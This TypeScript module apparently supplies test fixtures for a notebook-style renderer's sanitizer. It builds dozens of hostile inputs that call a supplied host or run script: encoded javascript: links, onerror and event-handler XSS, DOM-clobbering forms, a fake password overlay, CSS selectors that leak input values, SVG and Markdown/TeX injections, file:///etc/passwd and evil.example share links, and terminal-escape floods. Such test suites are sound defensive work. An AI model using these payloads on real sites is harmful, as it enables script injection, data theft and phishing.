/** Hostile texts in disguise: links that hide what they are, names that other code looks up, markup that is mended into something else. */
import type { Payload } from './hostile-payloads.ts';

/** Each calls `js`, or asks `at` for something of its own name, if anything of it works. */
export function disguises(at: string): readonly Payload[] {
  const js = `globalThis.escaped=1;try{top.escaped=1}catch{}fetch('${at}/js')`;
  const entities = (text: string): string =>
    [...text].map((one) => `&#x${one.codePointAt(0)?.toString(16)}`).join(';');
  const base64 = (text: string): string => Buffer.from(text).toString('base64');
  const texts = (places: Payload['places'], named: Record<string, string>): Payload[] =>
    Object.entries(named).map(([name, text]) => ({ name, places, text }));
  return [
    ...texts(['html', 'note', 'plot'], {
      'a program spelt in entities': `<a href="${entities('javascript:')};${js}">a</a><a href="java&Tab;script&colon;${js}">b</a><a href="&NewLine;javascript&#58;${js}">c</a><a href="\u0001javascript:${js}">d</a>`,
      'schemes that start programs': `<a href="vscode://ms-python.python/x">a</a><a href="vscode-insiders:x">b</a><a href="ms-msdt:/id x">c</a><a href="search-ms:query=x">d</a><a href="file:///etc/passwd">e</a><a href="\\\\evil.example\\share">f</a><a href="app://tapedeck/x">g</a>`,
      'a page in a word': `<a href="data:text/html;base64,${base64(`<script>${js}</script>`)}" target="_top">a</a><a href="blob:${at}/x">b</a><a href="filesystem:${at}/x">c</a><a href="view-source:${at}/source">d</a>`,
      'targets of every kind': `<a href="${at}/parent" target="_parent" rel="opener">a</a><a href="${at}/named" target="tapedeck">b</a><a href="#" ping="${at}/ping2" autofocus>c</a><area href="${at}/area" target="_top">`,
      'capitals and slashes for spaces': `<IMG/SRC="${at}/caps"/ONERROR="${js}"><sVg/oNLoad="${js}"><iMg sRc=x:x oNeRRoR="${js}">`,
      'a tag that never ends': `<img src="${at}/open" onerror="${js}" title='`,
      'comments that end early': `<!--><img src="${at}/comment" onerror="${js}">--><!--!><script>${js}</script>--!><![CDATA[<script>${js}</script>]]><?x <script>${js}</script>?>`,
    }),
    ...texts(['html', 'note'], {
      'names of the workbench': `<div id="cell-mine" data-runs="9"></div><div id="toc" class="palette"></div><form id="workbench" name="host"><input name="querySelector"><input name="attributes"><input name="remove"><input name="localName"></form><img name="host"><img name="shell"><a id="host" name="onEvent"></a>`,
      'a form that is not what it says': `<form><input name="parentNode"><input name="attributes"><input name="removeAttribute"><img src="${at}/clobbered" onerror="${js}"></form><form id=x onfocusin="${js}"><output name="nodeName" tabindex=0 autofocus></output></form>`,
      'a page over the page': `<div class="toast" popover="manual" style="position:fixed;inset:0;z-index:2147483647;background:red">Sign in<input type="password" autocomplete="current-password"></div><dialog open>d</dialog>`,
      'frames in frames': `<iframe srcdoc="&lt;iframe srcdoc='&amp;lt;iframe srcdoc=&amp;quot;&amp;amp;lt;script&amp;amp;gt;top.escaped=1&amp;amp;lt;/script&amp;amp;gt;&amp;quot;&amp;gt;'&gt;"></iframe><iframe src="about:blank" onload="${js}"></iframe><iframe src="output-frame.html"></iframe>`,
      'looks ahead of other kinds': `<link rel="preload" as="image" href="${at}/preload" imagesrcset="${at}/preloadset 1x"><link rel="icon" href="${at}/icon"><link rel="manifest" href="${at}/manifest"><link rel="prerender" href="${at}/prerender"><link rel="compression-dictionary" href="${at}/dictionary"><link rel="stylesheet" href="data:text/css,@import '${at}/datasheet'">`,
      'pictures that styles choose': `<style>@media all{@supports (display:grid){p{background:-webkit-image-set(url("${at}/imageset") 1x);mask-image:url(${at}/maskimage);border-image:url(${at}/border) 1;shape-outside:url(${at}/shape);offset-path:url(${at}/offset#a)}}}@namespace url(${at}/namespace);@layer x;@import url("${at}/layered") layer(x);</style><p>p</p>`,
      'what styles learn': `<style>input[value^="t"]{background:url(${at}/attribute)}:root{--x:url(${at}/variable);background:var(--x)}:visited{background:url(${at}/visited)}@font-face{font-family:g;src:local("x"),url(${at}/glyph);unicode-range:U+0041}body{font-family:g}@counter-style c{system:cyclic;symbols:url(${at}/symbol)}li{list-style:c}</style><input value="token"><li>A</li>`,
      'a sheet in a word': `<style>\\40 import url(${at}/escaped);@im\\port "${at}/port";p{background:\\75rl(${at}/escapedurl)}</style><p style="background:\\75\\72\\6c(${at}/inline)">p</p><p style="background-image:url(&#x22;${at}/quoted&#x22;)">q</p>`,
      'media of every kind': `<video controls src="${at}/video2" poster="${at}/poster2" preload="auto"><source srcset="${at}/mediaset" src="${at}/mediasource" type="video/mp4"></video><audio src="${at}/audio2" autoplay loop></audio><model src="${at}/model"></model><bgsound src="${at}/bgsound"><img dynsrc="${at}/dynsrc" lowsrc="${at}/lowsrc">`,
      'things to embed': `<object type="text/html" data="data:text/html,<script>${js}</script>"><param name="movie" value="${at}/movie"></object><embed type="image/svg+xml" src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`)}"><object classid="clsid:x" codebase="${at}/codebase"></object>`,
      'handlers of the pointer': `<b onpointerenter="${js}" onpointerrawupdate="${js}" onwheel="${js}" onbeforematch="${js}" hidden="until-found">b</b><xss onscrollsnapchange="${js}" onscrollend="${js}" style="display:block;overflow:scroll;height:9px;scroll-snap-type:y"><i style="display:block;height:99px">i</i></xss>`,
      'handlers of a transition': `<style>@starting-style{u{opacity:0}}u{transition:opacity 1s;opacity:1}</style><u ontransitionrun="${js}" ontransitionend="${js}" onwebkitanimationstart="${js}">u</u><video onloadstart="${js}" src="data:video/mp4,x" onerror="${js}"></video>`,
      'a policy in a frame’s words': `<iframe csp="script-src *" allow="camera *; microphone *" sandbox="allow-same-origin allow-scripts allow-top-navigation" srcdoc="<script>${js}</script>"></iframe><script nonce="x" integrity="y">${js}</script><script type="importmap">{"imports":{"x":"${at}/import"}}</script>`,
      'a slot and a part': `<template shadowrootmode="open" shadowrootclonable><slot onslotchange="${js}"></slot><link rel="stylesheet" href="${at}/shadowsheet"></template><div is="x-y" slot="s" part="p" exportparts="p" onslotchange="${js}">s</div>`,
    }),
    ...texts(['html', 'svg', 'note'], {
      'a drawing that moves its links': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><a id="l" x:href="#"><text y="9">l</text></a><animate x:href="#l" attributeName="href" to="javascript:${js}" fill="freeze"/><animateMotion path="M0,0" onbegin="${js}"/><set attributeName="onclick" to="${js}"/><discard onend="${js}"/></svg>`,
      'a drawing with a drawing inside': `<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml;base64,${base64(`<svg id="a" xmlns="http://www.w3.org/2000/svg"><script>${js}</script></svg>`)}#a"/><image href="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${at}/nested"/><script>${js}</script></svg>`)}"/><symbol id="s"><use href="#s"/></symbol><use href="#s"/></svg>`,
      'colours from elsewhere': `<svg xmlns="http://www.w3.org/2000/svg"><defs><linearGradient id="g" href="${at}/gradient#g"/><pattern id="p" href="${at}/pattern#p"/><filter id="f"><feImage href="${at}/feimage"/></filter><cursor href="${at}/svgcursor"/></defs><rect width="9" height="9" fill="url(${at}/paint#g)" stroke="url('${at}/stroke#g')" marker-end="url(${at}/marker#m)" cursor="url(${at}/cur),auto"/><textPath href="${at}/textpath#t">t</textPath><mpath href="${at}/mpath#m"/></svg>`,
      'a drawing’s own names': `<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>${js}</svg:script></svg:svg><svg><svg:script>${js}</svg:script><x:script xmlns:x="http://www.w3.org/1999/xhtml">${js}</x:script><script xlink:href="data:text/javascript,${js}"/></svg>`,
      'a way out of a drawing': `<svg><title><style><img src="</style><img src=${at}/title onerror=${js}>"></style></title><desc><iframe srcdoc="<script>${js}</script>"></iframe></desc><p><img src="${at}/breakp" onerror="${js}"></svg>`,
      'a drawing that is a page': `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9"><html xmlns="http://www.w3.org/1999/xhtml"><head><base href="${at}/"/><meta http-equiv="refresh" content="0;url=${at}/foreignrefresh"/></head><body><form action="${at}/foreignform"><input type="image" src="submit"/></form><video poster="${at}/foreignposter"/></body></html></foreignObject></svg>`,
    }),
    ...texts(['note', 'text', 'value'], {
      'Markdown that hides a scheme': `[a](java\tscript:alert(1)) [b](<javascript:${js}>) [c](&#106;avascript:alert(1)) [d](\\javascript:alert(1)) [e](%6Aavascript:alert(1)) [f](//${at.slice(7)}/protocol) [g](file:///etc/passwd "x") [h][1]\n\n[1]: data:text/html;base64,${base64('<script>1</script>')}`,
      'Markdown’s own markup': `<a\nhref="javascript:${js}">a</a>\n\n<div onclick="${js}">\n\n**b**\n\n</div>\n\n| a |\n|---|\n| <img src="${at}/cell" onerror="${js}"> |\n\n- [ ] <input autofocus onfocus="${js}">\n\n~~~{=html}\n<script>${js}</script>\n~~~`,
      'attachments of Markdown': `![a](attachment:x.svg) ![b](attachment:../../../etc/passwd) ![c](attachment:__proto__) ![d](/api/x) ![e](constructor) ![f](__proto__) ![g](toString)`,
      'more directives of MyST': `:::{code-cell} python\nimport os\n:::\n\n\`\`\`{mermaid}\ngraph TD; A["<img src=${at}/mermaid onerror=${js}>"] --> B; click A "javascript:${js}"\n\`\`\`\n\n:::{card} x\n:link: javascript:${js}\n:::\n\n:::{anywidget} ${at}/widget.mjs\n:::\n\n:::{bibliography} ${at}/bib\n:::\n\n:::{csv-table}\n:file: /etc/passwd\n:::\n\n:::{glossary}\n:::\n\n\`\`\`{button} ${at}/button\n\`\`\``,
      'references that lead round': `[a](#cell-mine) [b](#section-"><img src=${at}/anchor>) [c](#../../x) [d](#%00) [e](#constructor) {ref}\`__proto__\` {numref}\`javascript:x\` [](#javascript:${js}) [^x]\n\n[^x]: [^x]`,
      'TeX that reaches out': `$\\href{file:///etc/passwd}{a} \\htmlData{onclick=alert(1),href=${at}/d}{b} \\includegraphics{${at}/graphics.png} \\unicode{x3c} \\require{html} \\class{x" onclick="alert(1)}{c} \\style{background:url(${at}/texstyle)}{d} \\cssId{host}{e} \\bbox[url(${at}/bbox)]{f} \\input{/etc/passwd} \\write18{id}$`,
      'TeX that grows': `$$\\def\\a#1{#1#1#1#1#1#1#1#1#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}$$ $\\rule{999999em}{999999em}$ $\\kern{999999em}$ ${'{'.repeat(3_000)}x${'}'.repeat(3_000)}$ $${'\\frac{1}{'.repeat(1_500)}x${'}'.repeat(1_500)}$$`,
    }),
    ...texts(['text', 'error', 'value', 'plot'], {
      'a flood of a terminal’s orders': `${'\u001b[38;2;1;2;3m'.repeat(20_000)}x${'\u001b[1;'.repeat(5_000)}\u001b]8;id=${'y'.repeat(10_000)};${at}/osc2\u001b\\z`,
      'a link whose end is missing': `\u001b]8;;javascript:${js}\u001b\\press \u001b]1337;File=inline=1:${base64('<svg/>')}\u0007 \u001b]9;4;1\u0007 \u001bcx\u001b[>c \u009d8;;${at}/c1\u009cy`,
      'marks upon marks': `${'Z\u0351\u0352\u0353\u0354\u0355'.repeat(3_000)}${'\u202e\u2067'.repeat(2_000)}${'\ufdfd'.repeat(2_000)}`,
      'numbers that are no place': `${'9'.repeat(400)}e${'9'.repeat(400)}:1:1\n    at eval (javascript:${js}:1:1)\n    at file:///etc/passwd:1:1\n    at ${at}/stack:1:1\n    at cell-mine:${'9'.repeat(30)}:1`,
    }),
    ...texts(['plot', 'value'], {
      'a label that is a template': `<b>%{fullData.name}</b>%{_xother}%{__proto__.x}<a href="${at}/template" target="_parent">x</a><a href="command:x">y</a>\${globalThis.escaped=1}{{constructor.constructor('${js}')()}}<br><i style="color:url(${at}/labelstyle)">z</i>`,
      'a label without end': `${'<b><i><sup>'.repeat(2_000)}x${'&amp;'.repeat(20_000)}`,
    }),
  ];
}
